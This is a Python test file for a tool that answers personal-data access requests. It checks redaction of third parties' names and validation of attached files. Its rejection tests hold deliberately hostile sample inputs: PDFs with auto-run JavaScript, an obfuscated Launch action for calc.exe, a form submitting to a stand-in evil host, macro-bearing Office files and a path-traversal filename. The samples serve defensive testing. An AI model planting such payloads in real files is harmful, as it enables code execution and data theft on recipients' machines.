"""Others are weighed: as little as possible is left out, for a reason, and the letter says so (law.md rules 20, 22)."""

import json
import zlib
from datetime import date
from io import BytesIO
from zipfile import ZipFile

import pytest

from bot.core.drafts import DraftKind, Role
from bot.core.enclosures import MOST_BYTES
from bot.core.errors import BadInput, NotAllowed, NotFound
from bot.core.letters import RecordField
from bot.core.messages import MAIL
from bot.core.packages import PATH, PackageFile, PackageKind, zipped
from bot.core.records import Customer
from bot.core.redaction import LEFT_OUT
from bot.core.rights import Entity, RequestType
from bot.core.shelves import Shelf
from bot.core.verdict import Outcome
from bot.core.withholding import Where, Withheld
from replies.markup import Paragraph
from replies.pdf import to_pdf
from tests.flow.conftest import ANN, KIM, LEE, TestDesk

R = RequestType
ASKED = "My data please. Bert Janssens knows more. Ann Peeters"
NOTES = "Called by Bert  Janssens (bert@janssens.example), who pays for her; angry on 3 May."
NOTES_PLACE = ("field", "notes")
A_PDF = b"%%PDF-1.7\n1 0 obj << /Type /Catalog %b >> endobj\ntrailer << /Root 1 0 R >>\n%%%%EOF"
OURS = to_pdf(
    [Paragraph("/JavaScript is a word here.")], title="Bill", author="We", language="en", made_on=date(2026, 3, 2)
)


def packed(objects: bytes) -> bytes:
    """Return objects as a stream that a catalogue's end is followed by (ISO 32000-2, 7.5.7)."""
    return b">> endobj\n2 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n%b\nendstream <<" % zlib.compress(
        objects
    )


async def proven(desk: TestDesk, right: RequestType = R.ACCESS) -> str:
    """Let Ann ask, naming somebody else, and type her code; return the case's id."""
    fields = (RecordField("street", "Elm 7"), RecordField("notes", NOTES))
    customer = Customer("id-C-1", "C-1", "Ann Peeters", (ANN,), fields=fields)
    await desk.store.transact(lambda unit: unit.directory.put(customer, desk.clock.now()))
    entities = tuple(
        Entity("person", name, ASKED.index(name), ASKED.index(name) + len(name))
        for name in ("Bert Janssens", "Ann Peeters")
    )
    desk.reader.tell(ASKED, right, entities=entities)
    await desk.mail(ASKED)
    await desk.mail(await desk.code())
    await desk.deliver()
    return (await desk.case()).id


async def opened(desk: TestDesk, case_id: str, kind: PackageKind = PackageKind.ACCESS) -> ZipFile:
    """Prepare a copy, let its answer leave, and open it as the person does."""
    _, draft = await desk.dossiers.make(case_id, kind, KIM)
    token = draft.body.partition("https://desk.example" + PATH)[2].split()[0]
    for colleague in (KIM, LEE):
        await desk.approval.approve(draft.id, colleague)
    await desk.deliver()
    await desk.dossiers.send_code(token)
    await desk.deliver()
    given = await desk.dossiers.open(token, desk.couriers[MAIL].to(ANN)[-1].secret)
    assert isinstance(given, tuple)
    return ZipFile(BytesIO(given[1]))


async def answer(desk: TestDesk) -> str:
    return next(draft.body for draft in await desk.drafts() if draft.kind is DraftKind.ANSWER)


@pytest.mark.rule(22)
async def test_names_of_others_are_suggested_and_the_persons_own_are_not(desk: TestDesk) -> None:
    case_id = await proven(desk)
    shown = await desk.redactions.look(case_id, KIM)
    by_key = {one.place.key: one for one in shown.passages}
    assert by_key["notes"].suggested == ("Bert Janssens", "bert@janssens.example")
    assert by_key["street"].suggested == ()
    letters = [one for one in shown.passages if one.place.where is Where.LETTER]
    assert letters  # what we wrote is weighed
    assert ASKED not in [one.text for one in shown.passages]  # what they wrote is theirs


@pytest.mark.rule(22)
async def test_words_left_out_are_in_no_byte_handed_over_and_the_original_stays(desk: TestDesk) -> None:
    case_id = await proven(desk)
    await desk.redactions.mark(case_id, NOTES_PLACE, "bert janssens", Withheld.OTHER_PERSON, "pays, asked not to", KIM)
    mark = await desk.redactions.mark(
        case_id, NOTES_PLACE, "bert@janssens.example", Withheld.OTHER_PERSON, "his address", KIM
    )
    with pytest.raises(NotAllowed, match="let the answer end as partly for access"):
        await desk.dossiers.make(case_id, PackageKind.ACCESS, KIM)
    await desk.outcomes.choose_in(case_id, {R.ACCESS: Outcome.PARTLY}, KIM)
    letter = await answer(desk)
    assert "left out: field notes" in letter
    assert f"notes=Called by {LEFT_OUT} ({LEFT_OUT}), who pays for her; angry on 3 May." in letter
    archive = await opened(desk, case_id)
    everything = b"".join(archive.read(name) for name in archive.namelist())
    assert f"Called by {LEFT_OUT} ({LEFT_OUT}), who pays".encode() in everything
    assert b"bert@" not in everything
    assert b"Bert  Janssens" not in everything
    assert ASKED.encode() in everything  # her own words, whole
    assert not [one for one in desk.couriers[MAIL].to(ANN) if "bert@" in one.body]
    customer = await desk.store.transact(lambda unit: unit.directory.numbered("C-1"))
    assert customer is not None
    assert customer.fields[1].value == NOTES
    chain = await desk.store.transact(lambda unit: unit.audit.chain(case_id))
    assert [link.data["ground"] for link in chain if link.event == "left_out"] == ["other_person", "other_person"]
    assert "asked not to" not in json.dumps([dict(link.data) for link in chain])
    assert mark.by == KIM


@pytest.mark.rule(22, refused=True)
async def test_a_mark_needs_words_that_stand_there_a_reason_and_the_role(desk: TestDesk) -> None:
    case_id = await proven(desk)

    async def mark(place: tuple[str, str], words: str, reason: str, staff: str = KIM) -> None:
        await desk.redactions.mark(case_id, place, words, Withheld.OTHER_PERSON, reason, staff)

    with pytest.raises(NotAllowed, match="do not stand there"):
        await mark(NOTES_PLACE, "Janssen", "part of a word is not the word")
    with pytest.raises(NotAllowed, match="do not stand there"):
        await mark(NOTES_PLACE, "  ", "nothing")
    with pytest.raises(NotAllowed, match="say why"):
        await mark(NOTES_PLACE, "Bert Janssens", " ")
    with pytest.raises(NotFound, match="the person's own messages stay whole"):
        await mark(("letter", "theirs"), "Bert Janssens", "his name")
    await desk.store.transact(lambda unit: unit.staff.add("rita@nexioprojects.com", Role.READER))
    with pytest.raises(NotAllowed, match="may not edit"):
        await mark(NOTES_PLACE, "Bert Janssens", "his name", "rita@nexioprojects.com")
    await mark(NOTES_PLACE, "Bert Janssens", "his name")
    with pytest.raises(NotAllowed, match="left out there already"):
        await mark(NOTES_PLACE, "BERT JANSSENS", "again")


async def test_what_was_put_back_goes_out_whole(desk: TestDesk) -> None:
    case_id = await proven(desk)
    mark = await desk.redactions.mark(case_id, NOTES_PLACE, "Bert Janssens", Withheld.OTHER_PERSON, "his name", KIM)
    assert "Bert" not in (await answer(desk)).partition("record:")[2].partition("\n")[0]
    await desk.redactions.unmark(case_id, mark.id, LEE)
    assert "Bert  Janssens" in await answer(desk)
    assert b"Bert  Janssens" in (await opened(desk, case_id)).read("data.txt")
    with pytest.raises(NotFound, match="no mark"):
        await desk.redactions.unmark(case_id, mark.id, LEE)


OUTSIDE = b'<Relationship Id="1" Type="http://x.example/%s" Target="https://x.example/a" TargetMode="External"/>'


def office(*parts: tuple[str, bytes]) -> bytes:
    """Return an office file of these parts."""
    named = (("[Content_Types].xml", b"<Types/>"), *parts)
    return zipped([PackageFile(name, content) for name, content in named], date(2026, 3, 2))


async def test_a_file_goes_along_sealed_weighed_and_is_destroyed_with_the_copy(desk: TestDesk) -> None:
    case_id = await proven(desk)
    await desk.redactions.attach(case_id, "../orders 2025.txt", b"2 chairs, delivered to Bert Janssens", KIM)
    (file,) = (await desk.redactions.look(case_id, KIM)).files
    assert file.name == "orders_2025.txt"
    shown = {one.place.key: one for one in (await desk.redactions.look(case_id, KIM)).passages}
    assert shown[file.name].suggested == ("Bert Janssens",)
    place = ("file", file.name)
    await desk.redactions.mark(case_id, place, "Bert Janssens", Withheld.OTHER_PERSON, "his address", KIM)
    await desk.outcomes.choose_in(case_id, {R.ACCESS: Outcome.PARTLY}, KIM)
    archive = await opened(desk, case_id)
    assert archive.read(file.name) == f"2 chairs, delivered to {LEFT_OUT}".encode()
    kept = await desk.store.transact(lambda unit: unit.enclosures.data(file.id))
    assert kept == b"2 chairs, delivered to Bert Janssens"
    desk.clock.turn(days=31)
    assert any(fate.shelf is Shelf.PACKAGE for fate in await desk.retention.run())
    assert not await desk.store.transact(lambda unit: unit.enclosures.of_case(case_id))


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("run.exe", b"MZ", "add one of these kinds"),
        ("page.html", b"<script>", "add one of these kinds"),
        ("orders.pdf", b"<html>", "is no pdf: its content says otherwise"),
        ("orders.csv", b"\xff\xfe\x00", "is no csv"),
        ("orders.txt", b"", "is empty"),
        ("orders.txt", b"x" * (MOST_BYTES + 1), "larger than 10 MB"),
        ("orders.xlsx", b"PK\x03\x04" + b"x" * 99, "is no xlsx: its content says otherwise"),
        ("orders.xlsx", zipped([PackageFile("a.txt", b"")], date(2026, 3, 2)), "is no xlsx"),
        ("orders.xlsx", office(("xl/vbaProject.bin", b"")), "holds macros"),
        ("orders.xlsx", office(("xl/externalLinks/externalLink1.xml", b"<ddeLink/>")), "links to other files"),
        ("letter.docx", office(("word/embeddings/oleObject1.bin", b"")), "embedded objects"),
        ("letter.docx", office(("word/_rels/settings.xml.rels", OUTSIDE % b"attachedTemplate")), "links to other"),
        ("letter.docx", office(("word/_rels/document.xml.rels", b"<" * (1 << 21))), "links to other"),
        ("bill.pdf", A_PDF % b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "holds scripts"),
        ("bill.pdf", A_PDF % b"/AA << /O << /S /#4caunch /F (calc.exe) >> >>", "holds scripts"),
        ("bill.pdf", A_PDF % b"/A << /S /SubmitForm /F (https://evil.example) >>", "forms that send"),
        ("bill.pdf", A_PDF % packed(b"5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"), "holds scripts"),
        (
            "bill.pdf",
            (A_PDF % packed(b"5 0 << /S /GoTo >>")).replace(b"stream\n", b"stream\nnot deflated ", 1),
            "nobody can see",
        ),
        ("bill.pdf", A_PDF % b"/Encrypt 9 0 R", "is locked"),
    ],
)
async def test_a_file_is_what_its_name_says_and_no_program(desk: TestDesk, name: str, data: bytes, why: str) -> None:
    case_id = await proven(desk)
    with pytest.raises(BadInput, match=why):
        await desk.redactions.attach(case_id, name, data, KIM)


@pytest.mark.parametrize(
    "data",
    [
        OURS,
        A_PDF % b"/A << /S /URI /URI (https://shop.example) >> /OpenAction [1 0 R /Fit] /EmbeddedFiles 3 0 R",
        A_PDF % (packed(b"5 0 << /S /GoTo >>") + b" 7 0 obj << /Length 9 >> stream\n/JS /Launch endstream"),
    ],
    ids=["ours", "a link and an electronic invoice", "packed objects, and the words of a page"],
)
async def test_a_pdf_that_runs_nothing_goes_along_as_it_is(desk: TestDesk, data: bytes) -> None:
    case_id = await proven(desk)
    await desk.redactions.attach(case_id, "bill.pdf", data, KIM)
    assert (await opened(desk, case_id)).read("bill.pdf") == data


async def test_an_office_file_without_anything_that_runs_goes_along_as_it_is(desk: TestDesk) -> None:
    """Its formulas too: a cell of a stranger's words is typed as text there, which a CSV can't say."""
    case_id = await proven(desk)
    table = office(
        ("xl/worksheets/sheet1.xml", b"<c><f>SUM(A1:A9)</f></c>"), ("xl/_rels/sheet1.xml.rels", OUTSIDE % b"hyperlink")
    )
    await desk.redactions.attach(case_id, "orders.xlsx", table, KIM)
    archive = await opened(desk, case_id)
    assert archive.read("orders.xlsx") == table


async def test_a_file_is_taken_away_with_its_marks_and_two_have_two_names(desk: TestDesk) -> None:
    case_id = await proven(desk)
    await desk.redactions.attach(case_id, "a.txt", b"Bert Janssens", KIM)
    with pytest.raises(NotAllowed, match="is there already"):
        await desk.redactions.attach(case_id, "a.txt", b"another", KIM)
    await desk.redactions.mark(case_id, ("file", "a.txt"), "Bert Janssens", Withheld.OTHER_PERSON, "name", KIM)
    await desk.redactions.detach(case_id, "a.txt", KIM)
    shown = await desk.redactions.look(case_id, KIM)
    assert (shown.files, shown.marks) == ([], [])
    with pytest.raises(NotFound, match="no file"):
        await desk.redactions.detach(case_id, "a.txt", KIM)


async def test_only_what_asks_for_a_copy_has_one(desk: TestDesk) -> None:
    case_id = await proven(desk, R.ERASURE)
    with pytest.raises(NotAllowed, match="asks for no copy"):
        await desk.redactions.look(case_id, KIM)
